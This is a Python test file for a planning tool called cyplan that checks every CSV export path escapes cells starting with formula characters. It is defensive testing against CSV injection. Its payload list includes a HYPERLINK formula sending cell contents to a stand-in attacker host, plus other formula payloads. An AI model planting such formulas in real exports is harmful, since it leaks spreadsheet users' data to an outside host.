"""No CSV file cyplan writes starts a cell with a formula character (issue 11, part 2).

Text beginning with '=', '+', '-', '@', a tab or a carriage return is run as a formula by Excel and
LibreOffice (OWASP "CSV injection"): a service named =HYPERLINK("http://evil.example/?"&A1,"Click me") once
went raw into `cyplan export`, the web downloads, `--problems` files and returns tables. The one CSV writer
now puts a "'" before such text, numbers stay numbers, and the CSV reader takes the "'" off again, so that an
exported file imports as the text that was exported. Each CSV route is tried here with the payloads; the
formula characters are written out below, not taken from the code under test.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import tempfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import polars as pl
import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import CliResult, write_text
from cyplan.io.formulas import escape, unescape
from cyplan.io.read import read_table
from cyplan.io.validate import CONTROL, validate
from cyplan.io.write import write_csv
from cyplan.schema import KINDS
from cyplan.store.workspace import Workspace
from cyplan.transfer import Source, export_inputs, import_inputs

Run = Callable[[Sequence[str]], CliResult]
STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
PAYLOADS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "=1+1", "'=1+1", "''", "-", "@"]
SMALL_RECORDS = Path(__file__).parents[1] / "examples" / "returns" / "small_records.csv"


def formula_cells(text: str) -> list[str]:
    """Cells of a CSV text that a spreadsheet would run: they start with a formula character and are not a
    plain number (-0.03 is a number to Excel, and numbers must stay numbers)."""
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(STARTS) and not _is_number(cell):
                found.append(cell)
    return found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def written(frame: pl.DataFrame) -> str:
    buf = io.StringIO()
    write_csv(frame, buf)
    return buf.getvalue()


# -- the rule ------------------------------------------------------------------------------------


def test_the_payloads_are_written_with_a_quote_and_numbers_as_they_are() -> None:
    """Hand-worked: each payload gets one "'" (two for text that already starts "'="), others none; a negative
    number in a number column is not prefixed, a negative number held as text is."""
    frame = pl.DataFrame({"name": [HYPERLINK, "-2+3", "'=1+1", "'quoted' words", "plain", "\tx"],
                          "n": [-1.5, -2.0, 3.0, -0.03, 1e-7, 0.5], "k": [-1, -2, 3, 4, 5, 6],
                          "t": ["-1", "+44 20", "@x", "x", "'", "'@"]})
    rows = list(csv.reader(io.StringIO(written(frame), newline="")))
    assert rows == [
        ["name", "n", "k", "t"],
        ["'" + HYPERLINK, "-1.5", "-1", "'-1"],
        ["'-2+3", "-2", "-2", "'+44 20"],
        ["''=1+1", "3", "3", "'@x"],
        ["'quoted' words", "-0.03", "4", "x"],
        ["plain", "1e-7", "5", "'"],
        ["'\tx", "0.5", "6", "''@"],
    ]


def test_a_header_that_is_a_formula_is_escaped_too() -> None:
    assert written(pl.DataFrame({"=1+1": ["a"], "ok": ["b"]})).splitlines()[0] == "'=1+1,ok"


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_escape_never_starts_with_a_formula_character_and_unescape_undoes_it(text: str) -> None:
    """Catches an escape that leaves a formula, or a reader that does not give back exactly what was written."""
    assert not escape(text).startswith(STARTS)
    assert unescape(escape(text)) == text


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=1))
def test_unescape_changes_only_what_escape_could_have_written(cell: str) -> None:
    """A cell the writer never writes ('x, 'lots') is read as it is: a user's own "'" is kept."""
    if unescape(cell) != cell:
        assert cell[0] == "'" and cell[1] in (*STARTS, "'")
        assert escape(unescape(cell)) == cell


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=("Cs",))) | st.sampled_from(PAYLOADS), min_size=1,
                max_size=6), st.lists(st.floats(allow_nan=False, allow_infinity=False), min_size=6, max_size=6))
def test_any_text_written_to_csv_reads_back_and_no_cell_is_a_formula(texts: list[str], numbers: list[float]) -> None:
    frame = pl.DataFrame({"text": texts, "number": numbers[: len(texts)]})
    out = written(frame)
    assert formula_cells(out) == []
    rows = list(csv.reader(io.StringIO(out, newline="")))[1:]
    assert [unescape(r[0]) for r in rows] == texts
    assert [float(r[1]) for r in rows] == numbers[: len(texts)]


# -- export → import gives back the text -------------------------------------------------------------

# text as a workspace can hold it: what an import keeps (no spaces at either end, no control characters)
STORED = (st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=25) | st.sampled_from(PAYLOADS)
          | st.sampled_from(PAYLOADS).map(lambda p: "'" + p)).filter(
    lambda s: s == s.strip() and s != "" and not re.search(CONTROL, s))


@pytest.fixture(scope="module")
def two_workspaces(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Workspace, Workspace, Path]]:
    """Made once: each example replaces the groups in both."""
    here = tmp_path_factory.mktemp("formulas")
    first, second = Workspace.create(here / "a"), Workspace.create(here / "b")
    yield first, second, here
    first.close()
    second.close()


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                   HealthCheck.function_scoped_fixture])
@given(st.lists(STORED, min_size=1, max_size=6, unique=True), st.lists(STORED, min_size=6, max_size=6))
def test_export_then_import_gives_back_the_original_text(two_workspaces: tuple[Workspace, Workspace, Path],
                                                         names: list[str], labels: list[str]) -> None:
    """Catches a reader that does not undo the writer (labels would come back with a "'"), through the
    workspace, export_inputs and import_inputs as `cyplan export` / `cyplan import` use them."""
    first, second, scratch = two_workspaces
    groups = pl.DataFrame({"group": names, "label": labels[: len(names)], "source": labels[::-1][: len(names)]})
    with tempfile.TemporaryDirectory(dir=scratch) as folder:
        first.write({"groups": groups}, [])
        [path] = export_inputs(first, ["groups"], Path(folder) / "groups.csv")
        assert formula_cells(path.read_text(encoding="utf-8")) == []
        import_inputs(second, [Source("groups", path)])
    assert second.read("groups").sort("group").equals(groups.sort("group"))


# -- every CSV route -----------------------------------------------------------------------------


def _with_payloads(workspace: Path, tmp_path: Path) -> None:
    """Groups labelled with the payloads and a scenario named with one, merged into the demo workspace."""
    groups = pl.DataFrame({"group": [f"payload_g{i}" for i in range(len(PAYLOADS))], "label": PAYLOADS,
                           "source": PAYLOADS[::-1]})
    groups_file = tmp_path / "payload_groups.csv"
    write_csv(groups, groups_file)  # escaped, so that the workspace holds the payloads exactly
    scenario = tmp_path / "payload_scenarios.csv"
    scenario.write_text('scenario,input,column,operation,value,description\n'
                        f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",workforce,leaver_rate,add,-0.03,@evil\n',
                        encoding="utf-8")
    ws = Workspace.open(workspace)
    try:
        import_inputs(ws, [Source("groups", groups_file), Source("scenarios", scenario)], "merge")
    finally:
        ws.close()


def test_cli_export_of_one_input_and_of_all(run_cli: Run, demo_workspace: Path, tmp_path: Path) -> None:
    _with_payloads(demo_workspace, tmp_path)
    code, _, _ = run_cli(["export", "groups", tmp_path / "groups.csv", "-w", demo_workspace])
    assert code == 0
    text = (tmp_path / "groups.csv").read_text(encoding="utf-8")
    assert formula_cells(text) == []
    assert "'" + HYPERLINK.replace('"', '""') in text
    code, _, _ = run_cli(["export", "all", tmp_path / "all", "-w", demo_workspace])
    assert code == 0
    for path in sorted((tmp_path / "all").glob("*.csv")):
        assert formula_cells(path.read_text(encoding="utf-8")) == [], path.name
    # the scenario's -0.03 is a number and stays one
    scenarios = list(csv.DictReader((tmp_path / "all" / "scenarios.csv").open(encoding="utf-8", newline="")))
    assert [r["value"] for r in scenarios if r["description"] == "'@evil"] == ["-0.03"]
    # and importing the export gives back the payloads
    code, _, err = run_cli(["import", "groups", tmp_path / "groups.csv", "-w", demo_workspace])
    assert code == 0, err
    ws = Workspace.open(demo_workspace)
    try:
        labels = ws.read("groups").filter(pl.col("group").str.starts_with("payload_g"))
    finally:
        ws.close()
    assert sorted(labels["label"].to_list()) == sorted(PAYLOADS)


def test_cli_results_as_csv(run_cli: Run, demo_workspace: Path, tmp_path: Path) -> None:
    _with_payloads(demo_workspace, tmp_path)
    code, out, err = run_cli(["scenario", "list", "-w", demo_workspace, "--format", "csv"])
    assert code == 0, err
    assert HYPERLINK.replace('"', '""') in out
    assert formula_cells(out) == []


def test_problems_file_echoes_a_formula_header_escaped(run_cli: Run, demo_workspace: Path, tmp_path: Path) -> None:
    """A header `=1+1` and a cell `@SUM(A1)` are echoed in the problems' column and message cells."""
    bad = write_text(tmp_path / "levels.csv", "level,label,coverage,=1+1\n-x,@SUM(A1),@SUM(A1),1\n")
    code, _, _ = run_cli(["import", "levels", bad, "-w", demo_workspace, "--problems", tmp_path / "p.csv"])
    assert code == 2
    text = (tmp_path / "p.csv").read_text(encoding="utf-8")
    assert formula_cells(text) == []
    assert "'=1+1" in [r["column"] for r in csv.DictReader(io.StringIO(text, newline=""))]


def test_returns_tables_and_queries(run_cli: Run, tmp_path: Path) -> None:
    header, *records = SMALL_RECORDS.read_text(encoding="utf-8").splitlines()
    fields = header.split(",")
    rows = [dict(zip(fields, r.split(","), strict=True)) for r in records]
    for row, payload in zip(rows, PAYLOADS, strict=False):
        row["ethnicity"] = payload  # not on the code list: queried, and counted
        row["advocate_assigned"] = "-" + payload
    path = tmp_path / "records.csv"
    pl.DataFrame(rows).write_csv(path)  # raw
    ws = tmp_path / "ws"
    Workspace.create(ws).close()
    code, _, err = run_cli(["returns", "import", path, "-w", ws, "--queries", tmp_path / "q.csv"])
    assert code == 0, err
    assert formula_cells((tmp_path / "q.csv").read_text(encoding="utf-8")) == []
    for publish in ([], ["--publish"]):
        out = tmp_path / f"tables{len(publish)}"
        code, _, err = run_cli(["returns", "tables", "-w", ws, "--format", "csv", "-o", out, *publish])
        assert code == 0, err
        for table in sorted(out.glob("*.csv")):
            assert formula_cells(table.read_text(encoding="utf-8")) == [], table.name
    code, out_text, err = run_cli(["returns", "quality", "-w", ws, "--format", "csv", "--today",
                                   dt.date(2024, 1, 1).isoformat()])
    assert code == 0, err
    assert formula_cells(out_text) == []


@pytest.fixture
def client(demo_workspace: Path, tmp_path: Path) -> Iterator[TestClient]:
    from cyplan.web.app import create_app

    _with_payloads(demo_workspace, tmp_path)
    app = create_app(demo_workspace)
    with TestClient(app, base_url="http://localhost") as c:
        yield c
    app.state.workspace.close()


def test_web_csv_downloads(client: TestClient) -> None:
    """Every input and every results table the Data page offers as CSV."""
    from cyplan.web.routes.data import RESULT_TABLES

    for kind in KINDS:
        r = client.get(f"/data/inputs/{kind}.csv")
        assert r.status_code == 200, kind
        assert formula_cells(r.text) == [], kind
    assert "'" + HYPERLINK.replace('"', '""') in client.get("/data/inputs/groups.csv").text
    for name in RESULT_TABLES:
        r = client.get(f"/data/results/{name}.csv")
        assert r.status_code == 200, name
        assert formula_cells(r.text) == [], name
    assert "'" + HYPERLINK.replace('"', '""') in client.get("/data/results/scenarios.csv").text


def test_the_writer_is_the_only_csv_writer() -> None:
    """Catches a new route that writes CSV past the escape: every `write_csv` / `.write_csv(` in src/ is the one
    writer, except the returns reader's own temporary copy of a sheet (read straight back, never shown)."""
    src = Path(__file__).parents[1] / "src" / "cyplan"
    found = []
    for path in sorted(src.rglob("*.py")):
        for line in path.read_text(encoding="utf-8").splitlines():
            if re.search(r"\.write_csv\(|csv\.writer|DictWriter|to_csv\(", line):
                found.append(f"{path.relative_to(src)}:{line.strip()}")
    assert found == ["io/write.py:text = plain_numbers(escape_frame(frame)).write_csv()",
                     "returns/stage.py:frame.write_csv(out)"]


def test_read_table_undoes_the_escape_only_in_csv(tmp_path: Path) -> None:
    """An Excel cell is text as typed ('=x stays '=x: the workbook writer never escapes), a CSV cell is unescaped."""
    from conftest import write_workbook

    book = write_workbook(tmp_path / "levels.xlsx", {"levels": [["level", "label", "coverage"], ["a", "'-x", 1]]})
    frame, problems = validate(read_table(book), KINDS["levels"])
    assert problems == [] and frame["label"].to_list() == ["'-x"]
    path = write_text(tmp_path / "levels.csv", "level,label,coverage\na,'-x,1\nb,'x,1\n")
    frame, problems = validate(read_table(path), KINDS["levels"])
    assert problems == [] and frame["label"].to_list() == ["-x", "'x"]


def test_workbooks_hold_the_payloads_as_text_not_formulas(tmp_path: Path) -> None:
    """XLSX exports were already safe: keep them so (every payload a text cell, as typed, no "'" added)."""
    import openpyxl

    from cyplan.io.write import write_xlsx

    write_xlsx({"groups": pl.DataFrame({"label": PAYLOADS, "n": [-1.5] * len(PAYLOADS)})}, tmp_path / "g.xlsx")
    book = openpyxl.load_workbook(tmp_path / "g.xlsx")  # formulas as formulas, not their values
    cells = list(book["groups"].iter_rows(min_row=2))
    assert [c[0].value for c in cells] == PAYLOADS
    assert {c[0].data_type for c in cells} == {"s"}
    assert {(c[1].value, c[1].data_type) for c in cells} == {(-1.5, "n")}
